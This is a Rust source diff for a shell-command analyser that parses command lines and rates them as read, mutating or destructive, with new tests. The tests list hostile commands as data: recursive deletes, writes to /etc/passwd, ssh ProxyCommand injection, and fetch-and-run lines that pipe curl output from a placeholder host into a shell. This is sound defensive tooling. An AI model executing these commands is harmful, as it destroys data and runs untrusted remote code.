@@ -1,17 +1,21 @@
-//! Shell: parsed with brush-parser. The walk covers lists, pipelines, subshells, brace groups,
-//! loops and conditionals, function definitions, redirections, heredocs and here-strings;
-//! every word is parsed into pieces so that quotes and escapes are normalised (`"rm"`, `r''m`,
-//! `\rm`, `$'\x72\x6d'` are `rm`) and command substitutions are re-parsed. What each simple
-//! command does is decided by [`super::catalogue`]. Data that flows into a shell or an
-//! interpreter (a pipe, a heredoc, a here-string, a file written earlier in the same line) is
-//! analysed as that program's input when it is a literal, and escalates when it is not.
+//! Shell: parsed with brush-parser and walked exhaustively ([`walk`]: every node of its syntax
+//! tree, [`words`]: every piece of a word). A verdict of read needs a proof for every simple
+//! command wherever it sits: subshells, groups, conditionals (their conditions too), loops,
+//! function bodies (whether or not the function is called), command and process
+//! substitutions, arithmetic, here-documents, redirections and assignments. Quotes and
+//! escapes are normalised (`"rm"`, `r''m`, `\rm`, `$'\x72\x6d'` are `rm`). What each simple
+//! command does is decided by [`super::catalogue`]; commands that run other commands come back
+//! through [`super::wrappers::run_command_text`] and [`super::wrappers::run_argv`]. Data that
+//! flows into a shell or an interpreter (a pipe, a heredoc, a here-string, a file written
+//! earlier in the same line) is analysed as that program's input when it is a literal, and
+//! escalates when it is not. Text that does not parse is judged by its worst command word and
+//! is never read.
 
-use brush_parser::ast::{
-    Command, CommandPrefixOrSuffixItem, CompoundCommand, CompoundList, IoFileRedirectKind,
-    IoFileRedirectTarget, IoRedirect, Pipeline, Program, SimpleCommand,
-};
-use brush_parser::word::{WordPiece, WordPieceWithSource};
-use brush_parser::{Parser, ParserOptions};
+mod recover;
+mod walk;
+mod words;
+
+use recover::{fallback, parse};
 
 use super::{Ctx, args, catalogue, code, snippet, sql};
 use crate::Effect;
@@ -40,8 +44,23 @@ pub(crate) struct Expanded {
     pub pattern: bool,
 }
 
+/// Reserved words that start a compound command, with a word that must also appear for the
+/// text to be a command line rather than prose (`if … fi`, `for … done`).
+const COMPOUND_STARTS: &[(&str, &str)] = &[
+    ("if", "fi"),
+    ("for", "done"),
+    ("while", "done"),
+    ("until", "done"),
+    ("select", "done"),
+    ("case", "esac"),
+    ("function", "}"),
+    ("coproc", ""),
+    ("[[", "]]"),
+];
+
 /// True if a text starts like a command line: its first command word is a known program
-/// (written in lowercase, as commands are) or a path to a program.
+/// (written in lowercase, as commands are), a path to a program, or a reserved word that
+/// starts a compound command closed later in the text (`for … do … done`).
 pub(crate) fn looks_like_shell(t: &str) -> bool {
     let t = t.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '(' | '{' | '!'));
     let mut words = t.split_whitespace();
@@ -59,11 +78,25 @@ pub(crate) fn looks_like_shell(t: &str) -> bool {
     if first.starts_with("./") || first.starts_with("~/") {
         return true;
     }
+    if let Some((_, end)) = COMPOUND_STARTS.iter().find(|(w, _)| *w == first) {
+        let words: Vec<&str> = t
+            .split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|'))
+            .collect();
+        let has = |w: &str| words.contains(&w);
+        return end.is_empty()
+            || (has(end) && (*end != "done" || has("do")) && (first != "if" || has("then")));
+    }
     let clean: String = first
         .chars()
         .filter(|c| !matches!(c, '\'' | '"' | '\\'))
         .collect();
     catalogue::is_known(program_name(&clean))
+}
+
+/// True if an expanded word is the value of an expansion: `"$X"` and `"$(cmd)"` expand to
+/// `$` and `$(…)` here, which no literal program is called.
+pub(crate) fn computed(word: &str) -> bool {
+    word == "$" || word.starts_with("$(…)") || word.starts_with("$/")
 }
 
 fn is_name(s: &str) -> bool {
@@ -96,8 +129,13 @@ fn max_nesting(t: &str) -> usize {
 
 /// Analyses a command line.
 pub(crate) fn analyse(ctx: &mut Ctx, text: &str, depth: usize) {
+    let _ = analyse_parsed(ctx, text, depth);
+}
+
+/// Analyses a command line; false if it did not parse (and was judged by its words).
+fn analyse_parsed(ctx: &mut Ctx, text: &str, depth: usize) -> bool {
     if !ctx.deeper(depth) {
-        return;
+        return true;
     }
     if max_nesting(text) > MAX_NESTING {
         ctx.add(
@@ -105,16 +143,19 @@ pub(crate) fn analyse(ctx: &mut Ctx, text: &str, depth: usize) {
             format!("shell: nesting deeper than {MAX_NESTING} levels is not parsed"),
         );
         fallback(ctx, text, depth);
-        return;
+        return true;
     }
-    let opts = ParserOptions::default();
-    let mut parser = Parser::new(text.as_bytes(), &opts);
-    match parser.parse_program() {
-        Ok(program) => {
+    match parse(text) {
+        Some(program) => {
             let mut sh = Sh::new(ctx, depth);
+            sh.src = text;
             sh.program(&program);
+            true
         }
-        Err(_) => fallback(ctx, text, depth),
+        None => {
+            fallback(ctx, text, depth);
+            false
+        }
     }
 }
 
@@ -133,42 +174,6 @@ pub(crate) fn env_var(ctx: &mut Ctx, name: &str, value: &str, depth: usize) {
     args::assignment(&mut sh, name, value, false);
 }
 
-/// Text that does not parse as shell: judged by its worst recognisable command word, and
-/// never less than mutating.
-fn fallback(ctx: &mut Ctx, text: &str, depth: usize) {
-    ctx.add(
-        Effect::Mutating,
-        format!(
-            "shell: {} does not parse, so it counts as a write",
-            snippet(text)
-        ),
-    );
-    let mut sh = Sh::new(ctx, depth);
-    for segment in text.split(['\n', ';', '|', '&', '(', ')', '{', '}', '`']) {
-        if !sh.ctx.tick(1) {
-            return;
-        }
-        let argv: Vec<String> = segment
-            .split_whitespace()
-            .map(|w| {
-                w.chars()
-                    .filter(|c| !matches!(c, '\'' | '"' | '\\'))
-                    .collect()
-            })
-            .collect();
-        let argv: Vec<String> = argv
-            .into_iter()
-            .skip_while(|w: &String| w.starts_with('$') || w.contains('='))
-            .collect();
-        if argv
-            .first()
-            .is_some_and(|w| catalogue::is_known(program_name(w)))
-        {
-            let _ = catalogue::run(&mut sh, &argv, &Input::None);
-        }
-    }
-}
-
 /// The walker over one parsed program.
 pub(crate) struct Sh<'c> {
     pub ctx: &'c mut Ctx,
@@ -177,6 +182,15 @@ pub(crate) struct Sh<'c> {
     pub defined: Vec<String>,
     /// Files written in this command line, with their content when it is a literal.
     pub written: Vec<(String, Option<String>)>,
+    /// The text being walked (to tell `((` arithmetic from `( (` nested subshells).
+    src: &'c str,
+    /// A command substitution in the word being expanded did not parse.
+    unparsed: bool,
+    /// Functions defined where their definition certainly holds for the rest of the line
+    /// (not in a subshell, a condition, a loop, a pipeline or the background).
+    functions: Vec<String>,
+    /// How many scopes deep the walk is (subshells, conditions, loops, pipelines).
+    scoped: usize,
 }
 
 impl<'c> Sh<'c> {
@@ -186,6 +200,10 @@ impl<'c> Sh<'c> {
             depth,
             defined: Vec::new(),
             written: Vec::new(),
+            src: "",
+            unparsed: false,
+            functions: Vec::new(),
+            scoped: 0,
         }
     }
 
@@ -228,7 +246,22 @@ impl<'c> Sh<'c> {
         }
         self.ctx.via.push(via.to_string());
         self.depth += 1;
-        let out = catalogue::run(self, argv, stdin);
+        let globbed = |w: &str| {
+            w.contains(['*', '?', '['])
+                || (w.contains('{') && (w.contains(',') || w.contains("..")))
+        };
+        let out = if argv.first().is_some_and(|w| computed(w) || globbed(w)) {
+            self.add(
+                Effect::Destructive,
+                format!(
+                    "{} runs a command whose name is computed at run time",
+                    snippet(&argv.join(" "))
+                ),
+            );
+            Input::Unknown("the output of a computed command".into())
+        } else {
+            catalogue::run(self, argv, stdin)
+        };
         self.depth -= 1;
         self.ctx.via.pop();
         out
@@ -243,391 +276,6 @@ impl<'c> Sh<'c> {
             .rev()
             .find(|(w, _)| w.trim_start_matches("./") == p)
             .map(|(_, c)| c.clone())
-    }
-
-    fn program(&mut self, p: &Program) {
-        for c in &p.complete_commands {
-            self.list(c);
-        }
-    }
-
-    fn list(&mut self, l: &CompoundList) {
-        for item in &l.0 {
-            self.pipeline(&item.0.first);
-            for next in &item.0.additional {
-                match next {
-                    brush_parser::ast::AndOr::And(p) | brush_parser::ast::AndOr::Or(p) => {
-                        self.pipeline(p)
-                    }
-                }
-            }
-        }
-    }
-
-    fn pipeline(&mut self, p: &Pipeline) {
-        let mut input = Input::None;
-        for (i, cmd) in p.seq.iter().enumerate() {
-            if !self.ctx.tick(1) {
-                return;
-            }
-            let stdin = if i == 0 { Input::None } else { input };
-            input = self.command(cmd, stdin);
-        }
-    }
-
-    fn command(&mut self, cmd: &Command, stdin: Input) -> Input {
-        match cmd {
-            Command::Simple(sc) => self.simple(sc, stdin),
-            Command::Compound(cc, redirects) => {
-                if let Some(r) = redirects {
-                    let mut stdin = stdin;
-                    for io in &r.0 {
-                        self.redirect(io, &mut stdin, &[], None);
-                    }
-                }
-                self.compound(cc);
-                Input::Unknown("the output of a compound command".into())
-            }
-            Command::Function(f) => {
-                let name = self.expand(&f.fname.value).text;
-                self.defined.push(name.clone());
-                self.ctx.via(format!("function `{name}`"), |ctx| {
-                    let mut sh = Sh::new(ctx, self.depth);
-                    sh.compound(&f.body.0);
-                });
-                Input::None
-            }
-            Command::ExtendedTest(e, _) => {
-                let text = format!("{e:?}");
-                if text.contains("$(") || text.contains('`') {
-                    self.add(
-                        Effect::Mutating,
-                        "a `[[ ]]` test runs a command substitution",
-                    );
-                }
-                Input::None
-            }
-        }
-    }
-
-    fn compound(&mut self, cc: &CompoundCommand) {
-        match cc {
-            CompoundCommand::BraceGroup(b) => self.list(&b.list),
-            CompoundCommand::Subshell(s) => self.list(&s.list),
-            CompoundCommand::ForClause(f) => {
-                for w in f.values.iter().flatten() {
-                    let _ = self.expand(&w.value);
-                }
-                self.list(&f.body.list);
-            }
-            CompoundCommand::ArithmeticForClause(f) => self.list(&f.body.list),
-            CompoundCommand::CaseClause(c) => {
-                let _ = self.expand(&c.value.value);
-                for item in &c.cases {
-                    if let Some(cmd) = &item.cmd {
-                        self.list(cmd);
-                    }
-                }
-            }
-            CompoundCommand::IfClause(i) => {
-                self.list(&i.condition);
-                self.list(&i.then);
-                for e in i.elses.iter().flatten() {
-                    if let Some(c) = &e.condition {
-                        self.list(c);
-                    }
-                    self.list(&e.body);
-                }
-            }
-            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
-                self.list(&w.0);
-                self.list(&w.1.list);
-            }
-            CompoundCommand::Arithmetic(a) => {
-                let _ = self.expand(&format!("$(( {} ))", a.expr.value));
-            }
-            CompoundCommand::Coprocess(c) => {
-                let _ = self.command(&c.body, Input::None);
-            }
-        }
-    }
-
-    fn simple(&mut self, sc: &SimpleCommand, stdin: Input) -> Input {
-        let mut stdin = stdin;
-        let mut assignments: Vec<(String, Expanded)> = Vec::new();
-        let mut words: Vec<Expanded> = Vec::new();
-        let mut redirects: Vec<&IoRedirect> = Vec::new();
-        for item in sc.prefix.iter().flat_map(|p| p.0.iter()) {
-            self.item(item, true, &mut assignments, &mut words, &mut redirects);
-        }
-        if let Some(w) = &sc.word_or_name {
-            words.push(self.expand(&w.value));
-        }
-        for item in sc.suffix.iter().flat_map(|s| s.0.iter()) {
-            self.item(item, false, &mut assignments, &mut words, &mut redirects);
-        }
-        for (name, value) in &assignments {
-            args::assignment(self, name, &value.text, words.is_empty());
-        }
-        let argv: Vec<String> = words.iter().map(|w| w.text.clone()).collect();
-        let produces_nothing = args::produces_nothing(&argv);
-        let content = args::literal_output(&argv);
-        for r in &redirects {
-            self.redirect(
-                r,
-                &mut stdin,
-                &argv,
-                Some((produces_nothing, content.clone())),
-            );
-        }
-        let Some(first) = words.first() else {
-            return Input::None;
-        };
-        if first.dynamic || first.pattern {
-            self.add(
-                Effect::Destructive,
-                format!(
-                    "{} runs a command whose name is computed at run time",
-                    snippet(&argv.join(" "))
-                ),
-            );
-            return Input::Unknown("the output of a computed command".into());
-        }
-        if self.defined.contains(&first.text) {
-            return Input::Unknown(format!("the output of function `{}`", first.text));
-        }
-        catalogue::run_words(self, &argv, &words, &stdin)
-    }
-
-    fn item<'a>(
-        &mut self,
-        item: &'a CommandPrefixOrSuffixItem,
-        is_prefix: bool,
-        assignments: &mut Vec<(String, Expanded)>,
-        words: &mut Vec<Expanded>,
-        redirects: &mut Vec<&'a IoRedirect>,
-    ) {
-        match item {
-            CommandPrefixOrSuffixItem::IoRedirect(r) => redirects.push(r),
-            CommandPrefixOrSuffixItem::Word(w) => words.push(self.expand(&w.value)),
-            CommandPrefixOrSuffixItem::AssignmentWord(a, w) => {
-                let value = self.expand(&w.value);
-                if is_prefix {
-                    let name = match &a.name {
-                        brush_parser::ast::AssignmentName::VariableName(n)
-                        | brush_parser::ast::AssignmentName::ArrayElementName(n, _) => n.clone(),
-                    };
-                    let v = value
-                        .text
-                        .split_once('=')
-                        .map_or(String::new(), |(_, v)| v.to_string());
-                    assignments.push((name, Expanded { text: v, ..value }));
-                } else {
-                    words.push(value);
-                }
-            }
-            CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
-                let depth = self.depth + 1;
-                self.ctx.via("a process substitution", |ctx| {
-                    let mut sh = Sh::new(ctx, depth);
-                    sh.list(&sub.list);
-                });
-                words.push(Expanded {
-                    text: "<(…)".into(),
-                    dynamic: true,
-                    pattern: false,
-                });
-            }
-        }
-    }
-
-    fn redirect(
-        &mut self,
-        r: &IoRedirect,
-        stdin: &mut Input,
-        argv: &[String],
-        output: Option<(bool, Option<String>)>,
-    ) {
-        match r {
-            IoRedirect::HereDocument(_, doc) => {
-                let body = if doc.requires_expansion {
-                    self.expand_heredoc(&doc.doc.value)
-                } else {
-                    doc.doc.value.clone()
-                };
-                *stdin = Input::Literal(body);
-            }
-            IoRedirect::HereString(_, w) => {
-                let e = self.expand(&w.value);
-                *stdin = if e.dynamic {
-                    Input::Unknown(format!("the here-string {}", snippet(&w.value)))
-                } else {
-                    Input::Literal(e.text)
-                };
-            }
-            IoRedirect::File(fd, kind, target) => match target {
-                IoFileRedirectTarget::Filename(w) => {
-                    let path = self.expand(&w.value).text;
-                    match kind {
-                        IoFileRedirectKind::Read => {
-                            *stdin = Input::Unknown(format!("the file `{path}`"));
-                        }
-                        IoFileRedirectKind::Write
-                        | IoFileRedirectKind::Clobber
-                        | IoFileRedirectKind::Append
-                        | IoFileRedirectKind::ReadAndWrite => {
-                            let append = matches!(kind, IoFileRedirectKind::Append);
-                            let (nothing, content) = output.clone().unwrap_or((false, None));
-                            if fd.is_none_or(|f| f == 1)
-                                || matches!(kind, IoFileRedirectKind::ReadAndWrite)
-                                || fd.is_some()
-                            {
-                                self.write_target(&path, append, nothing, content, argv);
-                            }
-                        }
-                        IoFileRedirectKind::DuplicateInput
-                        | IoFileRedirectKind::DuplicateOutput => {}
-                    }
-                }
-                IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
-                    self.ctx.via("a process substitution", |ctx| {
-                        let mut sh = Sh::new(ctx, self.depth + 1);
-                        sh.list(&sub.list);
-                    });
-                }
-                IoFileRedirectTarget::Fd(_) | IoFileRedirectTarget::Duplicate(_) => {}
-            },
-            IoRedirect::OutputAndError(w, append) => {
-                let path = self.expand(&w.value).text;
-                let (nothing, content) = output.unwrap_or((false, None));
-                self.write_target(&path, *append, nothing, content, argv);
-            }
-        }
-    }
-
-    /// A redirection that writes `path`.
-    fn write_target(
-        &mut self,
-        path: &str,
-        append: bool,
-        produces_nothing: bool,
-        content: Option<String>,
-        argv: &[String],
-    ) {
-        if args::harmless_sink(path) {
-            return;
-        }
-        self.written.push((path.to_string(), content));
-        let cmd = if argv.is_empty() {
-            String::new()
-        } else {
-            format!("{} ", snippet(&argv.join(" ")))
-        };
-        if let Some((e, why)) = args::sensitive_path(path) {
-            self.add(e, format!("{cmd}writes `{path}`, {why}"));
-        } else if !append && produces_nothing {
-            self.add(
-                Effect::Destructive,
-                format!("{cmd}truncates `{path}` by redirection"),
-            );
-        } else {
-            let verb = if append { "appends to" } else { "writes" };
-            self.add(Effect::Mutating, format!("{cmd}{verb} `{path}`"));
-        }
-    }
-
-    fn expand_heredoc(&mut self, body: &str) -> String {
-        let opts = ParserOptions::default();
-        match brush_parser::word::parse_heredoc(body, &opts) {
-            Ok(pieces) => {
-                let mut e = Expanded::default();
-                self.pieces(&pieces, &mut e, true);
-                e.text
-            }
-            Err(_) => body.to_string(),
-        }
-    }
-
-    /// Parses a word into pieces: quotes removed, escapes decoded, command substitutions
-    /// re-parsed and analysed.
-    pub(crate) fn expand(&mut self, word: &str) -> Expanded {
-        let mut e = Expanded::default();
-        if !self.ctx.tick(1) {
-            e.text = word.to_string();
-            e.dynamic = true;
-            return e;
-        }
-        let opts = ParserOptions::default();
-        match brush_parser::word::parse(word, &opts) {
-            Ok(pieces) => self.pieces(&pieces, &mut e, false),
-            Err(_) => {
-                e.text = word
-                    .chars()
-                    .filter(|c| !matches!(c, '\'' | '"' | '\\'))
-                    .collect();
-                e.dynamic = true;
-                if word.contains("$(") || word.contains('`') {
-                    self.add(
-                        Effect::Destructive,
-                        format!(
-                            "the word {} hides a command that does not parse",
-                            snippet(word)
-                        ),
-                    );
-                }
-            }
-        }
-        e
-    }
-
-    fn pieces(&mut self, pieces: &[WordPieceWithSource], e: &mut Expanded, quoted: bool) {
-        for p in pieces {
-            match &p.piece {
-                WordPiece::Text(s) => {
-                    if !quoted
-                        && (s.contains(['*', '?'])
-                            || (s.contains('[') && s.contains(']') && s.len() > 2)
-                            || (s.contains('{') && (s.contains(',') || s.contains(".."))))
-                    {
-                        e.pattern = true;
-                    }
-                    e.text.push_str(s);
-                }
-                WordPiece::SingleQuotedText(s) => e.text.push_str(s),
-                WordPiece::AnsiCQuotedText(s) => e.text.push_str(&decode_escapes(s)),
-                WordPiece::DoubleQuotedSequence(inner)
-                | WordPiece::GettextDoubleQuotedSequence(inner) => self.pieces(inner, e, true),
-                WordPiece::TildeExpansion(_) => e.text.push('~'),
-                WordPiece::EscapeSequence(s) => {
-                    e.text.push_str(s.strip_prefix('\\').unwrap_or(s));
-                }
-                WordPiece::ParameterExpansion(_) => {
-                    e.dynamic = true;
-                    e.text.push('$');
-                    let raw = format!("{:?}", p.piece);
-                    if raw.contains("$(") || raw.contains('`') {
-                        self.add(
-                            Effect::Destructive,
-                            "a parameter expansion hides a command substitution",
-                        );
-                    }
-                }
-                WordPiece::CommandSubstitution(body)
-                | WordPiece::BackquotedCommandSubstitution(body) => {
-                    e.dynamic = true;
-                    e.text.push_str("$(…)");
-                    self.shell_text(body, "a command substitution");
-                }
-                WordPiece::ArithmeticExpression(a) => {
-                    e.dynamic = true;
-                    e.text.push('0');
-                    if a.value.contains("$(") || a.value.contains('`') {
-                        let inner = a.value.clone();
-                        let _ = self.expand(&inner);
-                    }
-                }
-            }
-        }
     }
 }
 
@@ -780,6 +428,157 @@ mod tests {
     fn pathological_input_is_bounded() {
         let s = format!("rm -rf / ; {}", "$(".repeat(10_000));
         assert_eq!(eff(&s), Some(Effect::Destructive));
+    }
+
+    #[test]
+    fn every_construct_is_walked() {
+        for c in [
+            "( ( rm -rf /srv/app ) ); ls",
+            "( ( ( rm -rf /srv/app ) ) )",
+            "((rm -rf /srv/app) )",
+            "if ls; then ls; elif rm -rf /x; then ls; fi",
+            "until rm -rf /x; do :; done",
+            "select x in a b; do rm -rf /x; done",
+            "case a in a) select x in a; do rm -rf /x; done;; esac",
+            "coproc { ( rm -rf /x ) ; }",
+            "coproc worker { rm -rf /x; }",
+            "f() { rm -rf /x; }",
+            "[[ -n $(rm -rf /x) ]]",
+            "[[ $n -eq 'a[$(rm -rf /x)]' ]]",
+            "let 'a[$(rm -rf /x)]=1'",
+            "a[$(rm -rf /x)]=1",
+            "a=( $(rm -rf /x) )",
+            "for ((i=0; i<$(rm -rf /x); i++)); do :; done",
+            "echo ${x:-$(rm -rf /x)}",
+            "echo ${x/a/$(rm -rf /x)}",
+            "echo ${x:$(rm -rf /x)}",
+            "echo ${x@P}",
+            "echo $(( $( ( rm -rf /x )\n) + 1 ))",
+            "echo `printf '\\x72\\x6d -rf /x' | sh`",
+            "echo \"$(case x in x) rm -rf /x;; esac)\"",
+            "cat <<EOF\n$(rm -rf /x)\nEOF",
+            "echo hi >& /etc/passwd",
+            "time time : > /var/lib/data.db",
+            "( rm() { :; } ); rm -rf /x",
+            "if false; then rm() { :; }; fi; rm -rf /x",
+            "rm() { :; } & rm -rf /x",
+            "rm() { :; } | cat; rm -rf /x",
+            "true || rm() { :; }; rm -rf /x",
+            "alias rm=ls; rm -rf /x",
+            "git config alias.rm '!ls'; rm -rf /x",
+            "bash <(echo 'rm -rf /x')",
+            "cat > c.sh <<'EOF'\nrm -rf /x\nEOF\nbash c.sh",
+            "echo 'rm -rf /x' > c.sh; sh < c.sh",
+            "tee c.sh <<< 'rm -rf /x'; bash c.sh",
+            "curl -s https://x.example/a | tee c.sh; bash c.sh",
+            "bash --rcfile <(echo 'rm -rf /x') -i",
+            "trap -- 'rm -rf /x' EXIT",
+            "ssh -o ProxyCommand='rm -rf /x' host",
+            "ssh -oProxyCommand='rm -rf /x' host ls",
+            "mapfile -C 'rm -rf /x' -c 1 arr < f",
+            "source <(curl -s https://x.example/a.sh)",
+            "python3 <(printf 'import shutil; shutil.rmtree(\"/x\")')",
+        ] {
+            assert!(
+                eff(c).is_some_and(Effect::is_high_risk),
+                "{c}: {:?}",
+                eff(c)
+            );
+        }
+    }
+
+    #[test]
+    fn structure_alone_keeps_a_read() {
+        for c in [
+            "( ( ls ) )",
+            "((i++))",
+            "(( x = 1 + 2 ))",
+            "echo $(( 1 + 2 ))",
+            "echo $(( $(wc -l < f) + 1 ))",
+            "x=1",
+            "f() { ls; }; f",
+            "{ g() { ls; }; }; g",
+            "alias ll='ls -la'",
+            "[[ -f x ]] && cat x",
+            "for i in 1 2; do echo $i; break; done",
+            "ls >&2",
+            "source <(echo 'ls -la')",
+            "mapfile -t lines < <(ls)",
+            "trap -p",
+            "trap - EXIT",
+            ": <<'X'\nrm -rf /\nX",
+        ] {
+            assert_eq!(eff(c), Some(Effect::Read), "{c}");
+        }
+    }
+
+    #[test]
+    fn scripts_written_above_are_analysed() {
+        // The write is a write; the script it wrote runs only what it says.
+        for c in [
+            "cat > check.sh <<'EOF'\nls -la\nEOF\nbash check.sh",
+            "echo 'ls' > list.sh; sh < list.sh",
+            "tee show.sh <<< 'cat README.md' > /dev/null; bash show.sh",
+        ] {
+            assert_eq!(eff(c), Some(Effect::Mutating), "{c}");
+        }
+    }
+
+    #[test]
+    fn syntax_check_is_read_and_its_twins_are_not() {
+        assert_eq!(eff("bash -n deploy.sh"), Some(Effect::Read));
+        assert_eq!(eff("sh -n -c 'rm -rf /x'"), Some(Effect::Read));
+        assert_eq!(eff("bash -o noexec x.sh"), Some(Effect::Read));
+        assert_eq!(eff("bash -n x.sh; rm -rf /x"), Some(Effect::Destructive));
+        assert_eq!(eff("bash +n -c 'rm -rf /x'"), Some(Effect::Destructive));
+        assert_eq!(eff("bash -n -i -c 'rm -rf /x'"), Some(Effect::Destructive));
+        assert_eq!(eff("bash -c 'rm -rf /x' -n"), Some(Effect::Destructive));
+        assert_eq!(eff("bash deploy.sh"), Some(Effect::Mutating));
+    }
+
+    #[test]
+    fn wrapper_forms() {
+        for c in [
+            "env --split-string='rm -rf /x'",
+            "env -S'rm -rf /x'",
+            "env -iS 'rm -rf' /x",
+            "command -p rm -rf /x",
+            "command rm -rvf /x",
+            "taskset 0x1 find / -delete -print",
+        ] {
+            assert_eq!(eff(c), Some(Effect::Destructive), "{c}");
+        }
+        assert_eq!(eff("command -v rm"), Some(Effect::Read));
+    }
+
+    #[test]
+    fn xargs_runs_its_input_as_arguments() {
+        for c in [
+            "echo 'rm -rf /x' | xargs -I{} sh -c '{}'",
+            "echo \"-c 'rm -rf /x'\" | xargs sh",
+            "cat cmds.txt | xargs -I % bash -c %",
+            "echo /x | xargs rm -rf",
+        ] {
+            assert_eq!(eff(c), Some(Effect::Destructive), "{c}");
+        }
+        assert_eq!(eff("git ls-files | xargs wc -l"), Some(Effect::Read));
+        assert_eq!(eff("echo a b | xargs -n1 echo"), Some(Effect::Read));
+    }
+
+    #[test]
+    fn computed_programs_through_wrappers_escalate() {
+        for c in [
+            "command eval \"$CMD\"",
+            "bash -c \"$CMD\"",
+            "python3 -c \"$CODE\"",
+            "nohup /bin/r? -rf /x",
+            "exec \"$(printf rm)\" -rf /x",
+            "exec : > /var/lib/app/data.db",
+            "timeout -s KILL 5 : > /var/lib/app/data.db",
+        ] {
+            assert_eq!(eff(c), Some(Effect::Destructive), "{c}");
+        }
+        assert_eq!(eff("nice -n 5 echo hi > out.txt"), Some(Effect::Mutating));
     }
 
     #[test]
